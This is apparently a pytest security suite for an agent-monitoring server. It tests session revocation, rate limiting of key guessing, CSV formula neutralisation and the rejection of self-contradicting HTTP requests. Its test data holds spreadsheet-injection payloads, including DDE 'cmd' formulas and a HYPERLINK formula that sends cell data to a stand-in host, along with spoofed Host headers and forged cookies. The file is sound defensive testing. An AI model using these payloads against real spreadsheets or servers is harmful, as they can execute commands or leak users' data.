"""Nobody is let in, and no key gets out: what strangers can do about it, each tried.

The order is that of SECURITY.md.
"""

from __future__ import annotations

import json
import re
import signal
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from pathlib import Path

import httpx
import pytest
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import ClientConnection, connect

from tests import raw
from tests.cli import run
from tests.exported import cells, contents
from tests.server import KEY, Server

# --- A stranger's `.env`: the cloned repository.


# --- Whoever took the port of a server that is gone.


# --- Signing out.

# Seconds. Half of what it takes until a stream notices anything by itself.
SOON = 7.0


def sign_in(server: Server) -> dict[str, str]:
    """What a browser sends from then on, and whoever stole it could send too."""
    answer = server.http.post("/api/session")
    server.http.cookies.clear()
    return {"Cookie": answer.headers["Set-Cookie"].partition(";")[0]}


def sign_out(server: Server, cookie: dict[str, str], query: str = "") -> None:
    answer = httpx.delete(f"{server.url}/api/session{query}", headers=cookie, trust_env=False)
    assert answer.status_code == 204


def socket_of(server: Server, cookie: dict[str, str]) -> ClientConnection:
    return connect(f"{server.ws_url}/ws", additional_headers=cookie, proxy=None)


def close_code(socket: ClientConnection) -> int | None:
    """How the server closes it; None: not soon."""
    with suppress(TimeoutError, ConnectionClosed):
        while True:
            socket.recv(timeout=SOON)
    return socket.close_code


def assert_worth_nothing(server: Server, cookie: dict[str, str]) -> None:
    """By every way in."""
    with httpx.Client(base_url=server.url, headers=cookie, trust_env=False) as thief:
        assert thief.get("/api/projects").status_code == 401
        assert thief.get("/api/events/stream").status_code == 401
        body = {"project": "stolen", "task": "T", "task_id": "t", "agent": "a"}
        assert thief.post("/webhook/start", json=body).status_code == 401
        assert thief.delete("/api/session?all").status_code == 401
    with socket_of(server, cookie) as socket:
        assert close_code(socket) == 3000


def knows(server: Server, cookie: dict[str, str]) -> bool:
    answer = httpx.get(f"{server.url}/api/projects", headers=cookie, trust_env=False)
    return answer.status_code == 200


def test_a_stolen_session_ends_where_its_owner_signs_out(server: Server) -> None:
    stolen, other = sign_in(server), sign_in(server)
    assert knows(server, stolen)
    sign_out(server, stolen)
    assert_worth_nothing(server, stolen)
    assert knows(server, other)


@pytest.mark.parametrize("query", ["", "?all"])
def test_what_a_session_opened_is_closed_with_it(server: Server, query: str) -> None:
    ended, other = sign_in(server), sign_in(server)
    with ExitStack() as stack:
        sockets = [stack.enter_context(socket_of(server, cookie)) for cookie in (ended, other, {})]
        by_key = f"{server.ws_url}/ws?api_key={KEY}"
        sockets[2] = stack.enter_context(connect(by_key, proxy=None))
        http = stack.enter_context(httpx.Client(base_url=server.url, timeout=SOON))
        streams = [
            stack.enter_context(http.stream("GET", "/api/events/stream", headers=headers))
            for headers in (ended, other, {"X-API-Key": KEY})
        ]
        lines = [stream.iter_lines() for stream in streams]
        assert [next(each) for each in lines] == [": connected"] * 3
        sign_out(server, ended, query)
        assert close_code(sockets[0]) == 3000
        assert list(lines[0]) == [""]  # to its end, and without a word more
        going_on = (1, 2) if not query else (2,)
        server.report("start", "p")
        for place in going_on:
            assert json.loads(sockets[place].recv(timeout=SOON))["type"] == "task_started"
            assert any(line == "event: task_started" for line in lines[place])
        if query:
            assert close_code(sockets[1]) == 3000
            assert list(lines[1]) == [""]


@pytest.mark.parametrize("query", ["", "?all"])
def test_it_stays_ended_though_the_server_is_killed(
    start_server: Callable[..., Server], query: str
) -> None:
    kept = {"SECRET_KEY": "secret-of-the-suite"}
    server = start_server(variables=kept)
    ended, other = sign_in(server), sign_in(server)
    sign_out(server, ended, query)
    server.stop(getattr(signal, "SIGKILL", signal.SIGTERM))
    again = start_server("--db", str(server.database), variables=kept)
    assert_worth_nothing(again, ended)
    assert knows(again, other) == (not query)


def test_all_sessions_can_be_ended_by_the_key(server: Server) -> None:
    cookies = [sign_in(server) for _ in range(3)]
    assert server.http.delete("/api/session?all").status_code == 204
    assert not any(knows(server, cookie) for cookie in cookies)
    assert knows(server, sign_in(server))


# --- Wrong keys.


def test_guessing_is_logged_and_slowed_and_starves_nobody(server: Server) -> None:
    guesses = [f"guessed-key-{number}" for number in range(150)]
    with httpx.Client(base_url=server.url, trust_env=False) as stranger:
        answers = []
        for guess in guesses:
            answers.append(stranger.get("/api/projects", headers={"X-API-Key": guess}))
            # The right key comes from the same address, all the time.
            assert server.report("status", "p").status_code in (200, 201)
    assert [answer.status_code for answer in answers] == [401] * 10 + [429] * 140
    refused = answers[-1]
    assert refused.json()["error"]["code"] == "RATE_LIMITED"
    assert 1 <= int(refused.headers["Retry-After"]) <= 60
    told = re.findall(r"Wrong API keys from (\S+): (\d+)", server.log)
    assert told == [("127.0.0.1", "1"), ("127.0.0.1", "10"), ("127.0.0.1", "100")]
    assert "guessed-key" not in server.log


def test_guessing_is_slowed_by_every_way_in(server: Server) -> None:
    url = f"{server.ws_url}/ws?api_key=guessed-key"
    codes = []
    for _ in range(11):
        with connect(url, proxy=None) as socket:
            codes.append((close_code(socket), socket.close_reason))
    assert codes[:10] == [(3000, "unauthorized")] * 10
    assert codes[10][0] == 1013
    assert re.fullmatch(r"too many wrong keys; wait \d+ s", codes[10][1] or "")
    body = {"project": "p", "task": "T", "task_id": "t", "agent": "a"}
    name, _, token = sign_in(server)["Cookie"].partition("=")
    with httpx.Client(base_url=server.url, trust_env=False) as stranger:
        for headers in (
            {"X-API-Key": "guessed-key"},
            {"Authorization": "Bearer guessed-key"},
            {"Cookie": f"{name}={token[:-8]}deadbeef"},  # a forged session is a guess too
        ):
            assert stranger.post("/webhook/start", json=body, headers=headers).status_code == 429
            assert stranger.post("/api/session", headers=headers).status_code == 429
            assert stranger.get("/api/events/stream", headers=headers).status_code == 429
        assert stranger.post("/api/session?api_key=guessed-key").status_code == 429
        for headers in ({}, {"X-API-Key": ""}):  # no key is no wrong one
            assert stranger.get("/api/projects", headers=headers).status_code == 401
    with connect(f"{server.ws_url}/ws?api_key={KEY}", proxy=None) as socket:
        socket.send('{"type":"ping"}')
        assert json.loads(socket.recv(timeout=SOON))["type"] == "pong"


def test_a_session_that_is_over_is_no_guess(server: Server) -> None:
    """A page that was signed out asks a few times more before it knows."""
    ended = sign_in(server)
    sign_out(server, ended, "?all")
    with httpx.Client(base_url=server.url, headers=ended, trust_env=False) as page:
        assert {page.get("/api/projects").status_code for _ in range(30)} == {401}
    assert "Wrong API keys" not in server.log


# --- What a terminal or a spreadsheet would obey.

FORMULAS = (
    '=HYPERLINK("https://example.com/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
HARMLESS = ("'=1+1", "1=1", "a\rb", "'", " ", "é")


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database in which agents have written formulas wherever they can."""
    server = Server.start(tmp_path_factory.mktemp("formulas"))
    for text in (*FORMULAS, *HARMLESS):
        names = {"task": text, "agent": text}
        server.report("status", text, text, message=text, **names)
        server.report("error", text, text, error_type=text, error_message=text, **names)
        server.report("finish", text, "finished", result=text, duration_seconds=10**9, **names)
    assert server.stop() == 0
    return server.database


def test_no_cell_of_an_export_begins_a_formula(formulas: Path, tmp_path: Path) -> None:
    table = run("export", "--format", "csv", "--db", str(formulas), home=tmp_path).stdout
    rows = cells(table)
    tasks = [row for row in rows if row["record"] == "task"]
    assert {row["title"] for row in tasks} == {*(f"'{text}" for text in FORMULAS), *HARMLESS}
    begun = {
        (name, text) for row in rows for name, text in row.items()
        if text[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠") and text
    }  # fmt: skip
    # Of whoever worked for 30 years when it was first heard of: a number, which does nothing.
    assert {name for name, _ in begun} <= {"started_at"}


def test_an_import_gives_back_the_formulas_to_the_last_byte(formulas: Path, tmp_path: Path) -> None:
    for options in ((), ("--keep-formulas",)):
        export = ("export", "--format", "csv", *options, "--db")
        table = run(*export, str(formulas), home=tmp_path).stdout
        (tmp_path / "all.csv").write_bytes(table)
        database = tmp_path / f"new{len(options)}.db"
        back = run("import", "all.csv", "--db", str(database), home=tmp_path)
        assert back.returncode == 0, back.stderr
        assert contents(database) == contents(formulas)
        assert run(*export, str(database), home=tmp_path).stdout == table


def test_formulas_are_kept_for_whoever_asks(formulas: Path, tmp_path: Path) -> None:
    arguments = ("export", "--format", "csv", "--keep-formulas", "--db", str(formulas))
    tasks = [row for row in cells(run(*arguments, home=tmp_path).stdout) if row["record"] == "task"]
    assert {row["title"] for row in tasks} == {*FORMULAS, *HARMLESS}
    assert {row["quoted"] for row in tasks} == {""}
    no_table = run("export", "--keep-formulas", "--db", str(formulas), home=tmp_path)
    assert (no_table.returncode, no_table.stdout) == (2, b"")


def test_a_table_that_lost_its_apostrophes_is_not_taken(formulas: Path, tmp_path: Path) -> None:
    export = ("export", "--format", "csv", "--db", str(formulas))
    table = run(*export, home=tmp_path).stdout
    (tmp_path / "all.csv").write_bytes(table.replace(b"'+1", b"+1"))
    back = run("import", "all.csv", "--db", "new.db", home=tmp_path)
    assert back.returncode == 78
    assert b"has lost its apostrophe" in back.stderr
    assert contents(tmp_path / "new.db")["projects"] == []


# --- Requests that say two things at once.

HOST = b"Host: localhost"
RIGHT = b"X-API-Key: " + KEY.encode()
WRONG = b"X-API-Key: somebody-elses-key"
BEARER = b"Authorization: Bearer "
UPGRADE = (
    *(b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Version: 13"),
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)

# What a client sends besides the request itself: its headers, and what follows the address.
CONTRADICTIONS: dict[str, tuple[tuple[bytes, ...], str]] = {
    "two hosts": ((HOST, b"Host: evil.example", RIGHT), ""),
    "the same host twice": ((HOST, HOST, RIGHT), ""),
    "two keys, the right one first": ((HOST, RIGHT, WRONG), ""),
    "two keys, the right one last": ((HOST, WRONG, RIGHT), ""),
    "the same key twice": ((HOST, RIGHT, RIGHT), ""),
    "two bearers": ((HOST, BEARER + KEY.encode(), BEARER + b"other"), ""),
    "a key and another parameter": ((HOST, RIGHT), "?api_key=other"),
    "another key and a parameter": ((HOST, WRONG), f"?api_key={KEY}"),
    "a key and a parameter in disguise": ((HOST, RIGHT), "?%61pi_key=other"),
    "a bearer and another parameter": ((HOST, BEARER + b"other"), f"?api_key={KEY}"),
    "two parameters": ((HOST,), f"?api_key=other&api_key={KEY}"),
}
PLAIN: dict[str, tuple[tuple[bytes, ...], str]] = {
    "a key, and what a proxy adds": ((HOST, RIGHT, b"Authorization: Basic eDp5", BEARER), ""),
    "the same key in two ways": ((HOST, RIGHT), f"?api_key={KEY}&api_key={KEY}"),
    "an empty parameter": ((HOST, RIGHT), "?api_key="),
    "a parameter, and what a proxy adds": ((HOST, b"Authorization: Basic eDp5"), f"?api_key={KEY}"),
}


@pytest.fixture(scope="module", params=[(), ("--rate-limit-webhook", "1000000")],
                ids=["shorter way", "usual way"])  # fmt: skip
def either_way(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Server]:
    """Webhooks without a limit take a shorter way."""
    server = Server.start(tmp_path_factory.mktemp("either") / "server", *request.param)
    yield server
    server.stop()


def report(project: str, headers: tuple[bytes, ...], query: str = "") -> bytes:
    body = json.dumps({"project": project, "task": "T", "task_id": "t", "agent": "a"}).encode()
    given = (*headers, b"Content-Type: application/json", b"Content-Length: %d" % len(body))
    return ask("POST", f"/webhook/start{query}", given) + body


def ask(method: str, target: str, headers: tuple[bytes, ...]) -> bytes:
    return b"\r\n".join((f"{method} {target} HTTP/1.1".encode(), *headers, b"", b""))


@pytest.mark.parametrize(("headers", "query"), CONTRADICTIONS.values(), ids=CONTRADICTIONS)
def test_a_request_that_contradicts_itself_is_refused_by_every_way_in(
    either_way: Server, project: str, headers: tuple[bytes, ...], query: str
) -> None:
    once = (*headers, b"Connection: close")
    for data in (
        report(project, once, query),
        ask("GET", f"/api/projects{query}", once),
        ask("GET", f"/api/events/stream{query}", once),
        ask("GET", f"/ws{query}", (*headers, *UPGRADE)),
        ask("GET", f"/health{query}", once),
    ):
        answer = raw.exchange(either_way, data)
        assert answer.status == 400, data
        assert json.loads(answer.body)["error"]["code"] == "BAD_REQUEST"
    assert either_way.http.get("/api/events", params={"project": project}).json()["events"] == []


@pytest.mark.parametrize(("headers", "query"), PLAIN.values(), ids=PLAIN)
def test_a_request_that_is_plain_is_let_in(
    either_way: Server, project: str, headers: tuple[bytes, ...], query: str
) -> None:
    ends = b"Connection: close"
    assert raw.exchange(either_way, report(project, (*headers, ends), query)).status == 201
    reads = ask("GET", f"/api/projects{query}", (*headers, ends))
    assert raw.exchange(either_way, reads).status == 200


def test_a_key_in_a_trailer_is_none(either_way: Server, project: str) -> None:
    body = report(project, ()).partition(b"\r\n\r\n")[2]
    begin = (HOST, b"Content-Type: application/json", b"Transfer-Encoding: chunked")
    chunks = b"%x\r\n%b\r\n0\r\n%b\r\n\r\n" % (len(body), body, RIGHT)
    answer = raw.exchange(either_way, ask("POST", "/webhook/start", begin) + chunks)
    assert answer.status == 401


def test_no_slashes_lead_past_the_rate_limit(start_server: Callable[..., Server]) -> None:
    server = start_server("--rate-limit-webhook", "1")
    headers = (HOST, RIGHT, b"Connection: close")
    assert raw.exchange(server, report("p", headers)).status == 201
    assert raw.exchange(server, report("p", headers)).status == 429
    for target in ("//webhook/start", "///webhook/start", "/webhook//start"):
        asked = report("p", headers).replace(b"/webhook/start", target.encode(), 1)
        answer = raw.exchange(server, asked)
        assert (answer.status, json.loads(answer.body)["error"]["code"]) == (404, "NOT_FOUND")
    assert len(server.task("p", "t")["events"]) == 1
